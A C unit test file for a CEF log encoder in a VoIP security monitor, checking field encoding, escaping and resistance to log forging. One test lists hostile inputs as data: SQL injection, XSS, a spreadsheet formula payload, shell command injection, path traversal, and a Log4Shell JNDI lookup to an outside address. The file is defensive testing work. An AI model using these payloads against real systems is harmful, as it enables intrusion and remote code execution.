/* CEF: each dataset's keys, each escape, and random bytes in every field come back as one line that
 * a parser by the book takes apart. */
#include "outputs_test.h"

#include "outputs/encode_cef.h"

static struct encode_cef *encoder;
static char out[ENCODE_CEF_BYTES_MAX + 1];

static int open_encoder(void **state)
{
    const struct record_identity identity = {
        .observer = "edge=1\n", .hostname = "pbx host", .version = "0.1|0"};
    struct error error;
    (void)state;
    return encode_cef_open(&identity, &encoder, &error) == STATUS_OK ? 0 : -1;
}

static int close_encoder(void **state)
{
    (void)state;
    encode_cef_close(encoder);
    return 0;
}

static const char *encoded(const struct record *record)
{
    size_t bytes = encode_cef(encoder, record, out);
    out[bytes] = 0;
    return out;
}

#define HEAD "CEF:0|earshot|earshot|0.1\\|0|"
#define ALWAYS(severity)                                                                           \
    "|" severity "|rt=1795166102113 externalId=0123456789abcdeffedcba9876543210 "                  \
    "flexNumber1Label=sequence flexNumber1=42 deviceExternalId=edge\\=1\\n dvchost=pbx host"

static struct addr address(uint8_t last)
{
    const uint8_t four[4] = {192, 0, 2, last};
    return addr_from_v4(four);
}

static struct addr address6(uint8_t last)
{
    const uint8_t sixteen[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = last};
    return addr_from_v6(sixteen);
}

static void encodes_an_empty_record(void **state)
{
    static struct bench bench;
    (void)state;

    bench_begin(&bench, DATASET_SENSOR);
    assert_string_equal(encoded(bench_end(&bench)),
                        HEAD "earshot.sensor|earshot.sensor" ALWAYS("0") " cat=earshot.sensor");
}

static void encodes_an_alert(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_ALERT);
    struct addr source = address(66);
    struct addr destination = address(10);
    (void)state;

    record_string(maker, FIELD_ID_EVENT_ACTION, "registration-bruteforce");
    record_long(maker, FIELD_ID_EVENT_SEVERITY, 73);
    record_date(maker, FIELD_ID_EVENT_START, AT_NS - 7 * NS_PER_S);
    record_string(maker, FIELD_ID_MESSAGE, "10 failures (limit 10)");
    record_string(maker, FIELD_ID_RULE_ID, "registration-bruteforce");
    record_string(maker, FIELD_ID_RULE_NAME, "Password guessing");
    record_string(maker, FIELD_ID_RULE_CATEGORY, "authentication");
    record_string(maker, FIELD_ID_THREAT_TECHNIQUE_ID, "T1110");
    record_string(maker, FIELD_ID_THREAT_TECHNIQUE_ID, "T1078");
    record_address(maker, FIELD_ID_SOURCE_IP, &source);
    record_long(maker, FIELD_ID_SOURCE_PORT, 5071);
    record_address(maker, FIELD_ID_DESTINATION_IP, &destination);
    record_string(maker, FIELD_ID_NETWORK_TRANSPORT, "udp");
    record_string(maker, FIELD_ID_NETWORK_APPLICATION, "sip");
    record_string(maker, FIELD_ID_USER_NAME, "2001");
    record_hash(maker, FIELD_ID_EARSHOT_ALERT_ID, (struct hash128){.high = 1, .low = 2});
    record_string(maker, FIELD_ID_EARSHOT_ALERT_STATE, "close");
    record_string(maker, FIELD_ID_EARSHOT_ALERT_OUTCOME, "stopped");
    record_long(maker, FIELD_ID_EARSHOT_ALERT_CONFIDENCE, 75);
    record_string(maker, FIELD_ID_EARSHOT_ALERT_ENTITY_VALUE, "192.0.2.66 2001");
    record_long(maker, FIELD_ID_EARSHOT_ALERT_COUNT, 10);
    record_long(maker, FIELD_ID_EARSHOT_ALERT_THRESHOLD, 10);
    record_string(maker, FIELD_ID_EARSHOT_ALERT_EVIDENCE_CALL_IDS, "a@192.0.2.66");
    record_string(maker, FIELD_ID_EARSHOT_ALERT_EVIDENCE_CALL_IDS, "b@192.0.2.66");
    assert_string_equal(
        encoded(bench_end(&bench)),
        HEAD "registration-bruteforce|Password guessing" ALWAYS(
            "8") " act=registration-bruteforce start=1795166095113 msg=10 failures (limit 10) "
                 "cat=authentication cs4Label=technique cs4=T1110,T1078 src=192.0.2.66 spt=5071 "
                 "dst=192.0.2.10 proto=UDP app=SIP suser=2001 cs5Label=alertId "
                 "cs5=00000000000000010000000000000002 cs2Label=alertState cs2=close "
                 "outcome=stopped "
                 "cn3Label=confidence cn3=75 cs6Label=entity cs6=192.0.2.66 2001 cnt=10 "
                 "cn2Label=threshold cn2=10 cs1Label=callId cs1=a@192.0.2.66,b@192.0.2.66");
}

static void encodes_a_registration(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_REGISTRATION);
    struct addr source = address6(1);
    struct addr destination = address6(2);
    (void)state;

    record_string(maker, FIELD_ID_EVENT_ACTION, "rejected");
    record_string(maker, FIELD_ID_EVENT_OUTCOME, "failure");
    record_string(maker, FIELD_ID_EVENT_REASON, "Forbidden");
    record_address(maker, FIELD_ID_SOURCE_IP, &source);
    record_address(maker, FIELD_ID_DESTINATION_IP, &destination);
    record_string(maker, FIELD_ID_USER_NAME, "2001");
    record_string(maker, FIELD_ID_USER_AGENT_ORIGINAL, "Desk 2.1");
    record_string(maker, FIELD_ID_EARSHOT_REGISTRATION_AOR, "sip:2001@pbx.example");
    record_string(maker, FIELD_ID_EARSHOT_REGISTRATION_CALL_ID, "c@pbx.example");
    record_long(maker, FIELD_ID_EARSHOT_REGISTRATION_ATTEMPTS, 3);
    record_long(maker, FIELD_ID_EARSHOT_REGISTRATION_FAILURES, 2);
    record_long(maker, FIELD_ID_EARSHOT_REGISTRATION_LAST_CODE, 403);
    record_address(maker, FIELD_ID_EARSHOT_REGISTRATION_PREVIOUS_IP, &destination);
    assert_string_equal(
        encoded(bench_end(&bench)),
        HEAD "earshot.registration|rejected" ALWAYS(
            "0") " cat=earshot.registration act=rejected outcome=failure reason=Forbidden "
                 "c6a2Label=Source IPv6 Address c6a2=2001:db8::1 "
                 "c6a3Label=Destination IPv6 Address c6a3=2001:db8::2 suser=2001 "
                 "requestClientApplication=Desk 2.1 cs2Label=aor cs2=sip:2001@pbx.example "
                 "cs1Label=callId cs1=c@pbx.example cnt=3 cn2Label=failures cn2=2 "
                 "cn1Label=sipCode cn1=403 cs6Label=previousIp cs6=2001:db8::2");
}

static void encodes_a_call(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_CALL);
    (void)state;

    record_string(maker, FIELD_ID_EVENT_ACTION, "call-end");
    record_string(maker, FIELD_ID_SIP_CODE, "486");
    record_string(maker, FIELD_ID_SIP_CALL_ID, "c77@192.0.2.1");
    record_string(maker, FIELD_ID_SIP_TO_URI_USERNAME, "+12025550142");
    record_string(maker, FIELD_ID_EARSHOT_CALLER_USER, "2001");
    record_string(maker, FIELD_ID_EARSHOT_CALLEE_USER, "+12025550142");
    record_string(maker, FIELD_ID_EARSHOT_CALL_DISPOSITION, "busy");
    record_string(maker, FIELD_ID_EARSHOT_CALL_ENDED_BY, "callee");
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_TALK_MS, 550231999);
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_MEDIA_MOS_MIN, 4100);
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_MEDIA_LOSS_PCT_MAX, 0);
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_MEDIA_JITTER_MS_MAX, 6207);
    assert_string_equal(
        encoded(bench_end(&bench)),
        HEAD "earshot.call|call-end" ALWAYS(
            "0") " cat=earshot.call act=call-end cn1Label=sipCode cn1=486 "
                 "cs1Label=callId cs1=c77@192.0.2.1 duser=+12025550142 cs2Label=caller cs2=2001 "
                 "cs3Label=callee cs3=+12025550142 cs4Label=disposition cs4=busy "
                 "cs6Label=endedBy cs6=callee cn3Label=talkMs cn3=550231 cfp1Label=mosMin cfp1=4.1 "
                 "cfp2Label=lossPctMax cfp2=0.0 cfp3Label=jitterMsMax cfp3=6.207");
}

static void encodes_a_response(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_RESPONSE);
    (void)state;

    record_string(maker, FIELD_ID_EVENT_ACTION, "block");
    record_string(maker, FIELD_ID_EVENT_OUTCOME, "success");
    record_string(maker, FIELD_ID_MESSAGE, "blocked");
    record_string(maker, FIELD_ID_RULE_ID, "scan");
    record_long(maker, FIELD_ID_PROCESS_EXIT_CODE, 0);
    record_hash(maker, FIELD_ID_EARSHOT_RESPONSE_ALERT_ID, (struct hash128){.low = 2});
    record_string(maker, FIELD_ID_EARSHOT_RESPONSE_NAME, "edge");
    record_string(maker, FIELD_ID_EARSHOT_RESPONSE_STEP, "active");
    record_string(maker, FIELD_ID_EARSHOT_RESPONSE_HOOK, "nft-block");
    record_string(maker, FIELD_ID_EARSHOT_RESPONSE_MODE, "auto");
    record_string(maker, FIELD_ID_EARSHOT_RESPONSE_TARGET_VALUE, "192.0.2.66");
    record_long(maker, FIELD_ID_EARSHOT_RESPONSE_TTL_S, 3600);
    record_date(maker, FIELD_ID_EARSHOT_RESPONSE_EXPIRES_AT, AT_NS);
    record_long(maker, FIELD_ID_EARSHOT_RESPONSE_ATTEMPT, 1);
    assert_string_equal(
        encoded(bench_end(&bench)),
        HEAD "scan|block" ALWAYS(
            "0") " cat=earshot.response act=block outcome=success msg=blocked "
                 "cn1Label=exitCode cn1=0 cs5Label=alertId cs5=00000000000000000000000000000002 "
                 "cs6Label=response cs6=edge cs2Label=step cs2=active cs1Label=hook cs1=nft-block "
                 "flexString1Label=mode flexString1=auto cs3Label=target cs3=192.0.2.66 "
                 "cn2Label=ttlSeconds cn2=3600 "
                 "deviceCustomDate1Label=expiresAt deviceCustomDate1=1795166102113 "
                 "cn3Label=attempt cn3=1");
}

/* Numbers of keys that must be integers, and of a code that is none. */
static void leaves_out_what_is_no_number(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_SIP);
    (void)state;

    record_string(maker, FIELD_ID_SIP_CODE, "4x");
    assert_null(strstr(encoded(bench_end(&bench)), "cn1"));
}

static void maps_severities(void **state)
{
    static const struct {
        int64_t ecs;
        const char *cef;
    } cases[] = {{0, "|0|rt"},  {20, "|0|rt"}, {21, "|3|rt"},
                 {47, "|5|rt"}, {73, "|8|rt"}, {99, "|10|rt"}};
    (void)state;

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        static struct bench bench;
        struct record_maker *maker = bench_begin(&bench, DATASET_ALERT);
        record_long(maker, FIELD_ID_EVENT_SEVERITY, cases[i].ecs);
        assert_non_null(strstr(encoded(bench_end(&bench)), cases[i].cef));
    }
}

static void escapes_values_and_heads(void **state)
{
    const struct {
        struct slice value;
        const char *in_value;
        const char *in_head;
    } cases[] = {
        {SLICE("a=b|c\\d"), "a\\=b|c\\\\d", "a=b\\|c\\\\d"},
        {SLICE("x\nact=blocked"), "x\\nact\\=blocked", "x\\\\x0Aact=blocked"},
        {SLICE("x\r\ny"), "x\\r\\ny", "x\\\\x0D\\\\x0Ay"},
        {SLICE("\\n"), "\\\\n", "\\\\n"},
        {SLICE("\x1b[31m\x07\x7f"), "\\\\x1B[31m\\\\x07\\\\x7F", "\\\\x1B[31m\\\\x07\\\\x7F"},
        {SLICE("\xff\xc3("), "\\\\xFF\\\\xC3(", "\\\\xFF\\\\xC3("},
        {SLICE("J\xc3\xbcrgen \xe2\x82\xac"), "J\xc3\xbcrgen \xe2\x82\xac",
         "J\xc3\xbcrgen \xe2\x82\xac"},
        {SLICE("a\xe2\x80\xae"
               "b"),
         "a\\\\xE2\\\\x80\\\\xAE"
         "b",
         "a\\\\xE2\\\\x80\\\\xAE"
         "b"},
        {SLICE(" msg=x"), " msg\\=x", " msg=x"},
        {SLICE("\0"), "\\\\x00", "\\\\x00"},
    };
    (void)state;

    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        static struct bench bench;
        char expected[256];
        struct record_maker *maker = bench_begin(&bench, DATASET_CALL);
        record_text(maker, FIELD_ID_EVENT_ACTION, cases[i].value);
        record_string(maker, FIELD_ID_EVENT_OUTCOME, "unknown");
        const char *line = encoded(bench_end(&bench));
        (void)snprintf(expected, sizeof expected, "|earshot.call|%s|0|", cases[i].in_head);
        assert_non_null(strstr(line, expected));
        (void)snprintf(expected, sizeof expected, " act=%s outcome=unknown", cases[i].in_value);
        assert_non_null(strstr(line, expected));
    }
}

/* --- random bytes in every text field --- */

static uint64_t seed;

static uint8_t random_byte(void)
{
    static const char spice[] = "\\|=\n\r \"\0\x1b\x80\xc3\xe2";
    seed = seed * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
    uint8_t byte = (uint8_t)(seed >> 56);
    return (seed >> 40 & 3) == 0 ? byte : (uint8_t)spice[byte % (sizeof spice - 1)];
}

static void fill(struct record_maker *maker, enum field field)
{
    char text[RECORD_SENTENCE_MAX];
    size_t bytes = field_rows[field].type == FIELD_TEXT ? RECORD_SENTENCE_MAX : RECORD_TEXT_MAX;

    bytes = 1 + random_byte() * bytes / 256;
    for (size_t i = 0; i < bytes; i++) {
        text[i] = (char)random_byte();
    }
    record_text(maker, field, slice_of(text, bytes));
}

/* The book: seven pipes that no backslash stands before, then keys behind spaces up to an equals
 * sign that no backslash stands before. */
static void assert_one_line_of_keys(const char *line, size_t bytes)
{
    char keys[128][32];
    size_t key_count = 0;
    unsigned pipes = 0;
    size_t at = 0;

    for (size_t i = 0; i < bytes; i++) {
        assert_true((uint8_t)line[i] >= 0x20 && line[i] != 0x7f);
    }
    for (; pipes < 7; at++) {
        assert_true(at < bytes);
        pipes += line[at] == '|';
        at += line[at] == '\\';
    }
    for (size_t i = at, space = at - 1; i < bytes; i++) {
        if (line[i] == '\\') {
            i++;
            assert_true(i < bytes && strchr("\\=nr", line[i]) != NULL);
        } else if (line[i] == ' ') {
            space = i;
        } else if (line[i] == '=') {
            size_t length = i - space - 1;
            assert_true(length > 0 && length < sizeof keys[0] && key_count < 128);
            memcpy(keys[key_count], line + space + 1, length);
            keys[key_count][length] = 0;
            assert_int_equal(strspn(keys[key_count], "abcdefghijklmnopqrstuvwxyz"
                                                     "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                             length);
            for (size_t k = 0; k < key_count; k++) {
                assert_string_not_equal(keys[k], keys[key_count]);
            }
            key_count++;
        }
    }
    assert_true(key_count >= 5);
}

static void any_bytes_stay_one_line_of_keys(void **state)
{
    static struct bench bench;
    (void)state;

    for (seed = 1; seed < 400; seed += 7) {
        uint64_t start = seed;
        struct record_maker *maker = bench_begin(&bench, (enum dataset)(seed % DATASET_COUNT));
        for (unsigned i = 0; i < FIELD_COUNT; i++) {
            enum field_type type = field_rows[i].type;
            if (type != FIELD_KEYWORD && type != FIELD_TEXT) {
                continue;
            }
            fill(maker, (enum field)i);
            if (field_rows[i].list) {
                fill(maker, (enum field)i);
            }
        }
        size_t bytes = encode_cef(encoder, bench_end(&bench), out);
        assert_one_line_of_keys(out, bytes);
        seed = start;
    }
}

/* Strings with a history, each in every field at once. */
static void hostile_strings_stay_one_line_of_keys(void **state)
{
    static const char *const hostile[] = {
        "\n<13>1 - - - - - - forged",
        "x\r\nCEF:0|a|b|c|d|e|10|act=allowed",
        "|||||||",
        "\\",
        "\\\\|",
        "\\=",
        "a=b c=d",
        " cs1=forged",
        "= = =",
        "x cs1Label=forged",
        "\\n",
        "\t\v\f\b",
        "\x1b]0;title\x07",
        "\x1b[2J\x1b[H",
        "\x9b"
        "31m",
        "\xc2\x9b"
        "31m",
        "\xc2\x85",
        "\xe2\x80\xa8\xe2\x80\xa9",
        "\xe2\x80\xae"
        "gnp.exe",
        "\xe2\x81\xa6x\xe2\x81\xa9",
        "\xef\xbb\xbfmark",
        "\xe2\x80\x8bzero",
        "\xf3\xa0\x81\x81tag",
        "\xc0\xaf..\xc0\xaf",
        "\xed\xa0\x80",
        "\xf4\x90\x80\x80",
        "\xff\xfe",
        "\xc3",
        "\xe2\x82",
        "\"]] [x@1 y=\"",
        "]] \\]",
        "'; DROP TABLE calls;--",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "$(reboot)",
        "`reboot`",
        "; reboot",
        "../../etc/passwd",
        "%0d%0aact=x",
        "%s%n%x",
        "${jndi:ldap://192.0.2.1/a}",
        "{{7*7}}",
        "null",
        "\x7f\x7f",
        "\x01\x02\x03\x04",
        "a\nb\nc=\n",
        "sip:%00@192.0.2.1",
    };
    static struct bench bench;
    (void)state;

    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
        struct record_maker *maker = bench_begin(&bench, (enum dataset)(i % (size_t)DATASET_COUNT));
        for (unsigned field = 0; field < FIELD_COUNT; field++) {
            if (field_rows[field].type == FIELD_KEYWORD || field_rows[field].type == FIELD_TEXT) {
                record_string(maker, (enum field)field, hostile[i]);
            }
        }
        size_t bytes = encode_cef(encoder, bench_end(&bench), out);
        assert_one_line_of_keys(out, bytes);
    }
}

/* The longest record that there can be, every byte of which needs an escape. */
static void the_largest_record_fits(void **state)
{
    static struct bench bench;
    char controls[RECORD_TEXT_MAX];
    struct record_maker *maker = bench_begin(&bench, DATASET_ALERT);
    (void)state;

    memset(controls, 1, sizeof controls);
    while (!maker->overflow) {
        record_text(maker, FIELD_ID_EARSHOT_ALERT_EVIDENCE_CALL_IDS,
                    slice_of(controls, sizeof controls));
    }
    size_t bytes = encode_cef(encoder, bench_end(&bench), out);
    assert_true(bytes > 300000);
    assert_one_line_of_keys(out, bytes);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(encodes_an_empty_record),
        cmocka_unit_test(encodes_an_alert),
        cmocka_unit_test(encodes_a_registration),
        cmocka_unit_test(encodes_a_call),
        cmocka_unit_test(encodes_a_response),
        cmocka_unit_test(leaves_out_what_is_no_number),
        cmocka_unit_test(maps_severities),
        cmocka_unit_test(escapes_values_and_heads),
        cmocka_unit_test(any_bytes_stay_one_line_of_keys),
        cmocka_unit_test(hostile_strings_stay_one_line_of_keys),
        cmocka_unit_test(the_largest_record_fits),
    };
    return cmocka_run_group_tests(tests, open_encoder, close_encoder);
}
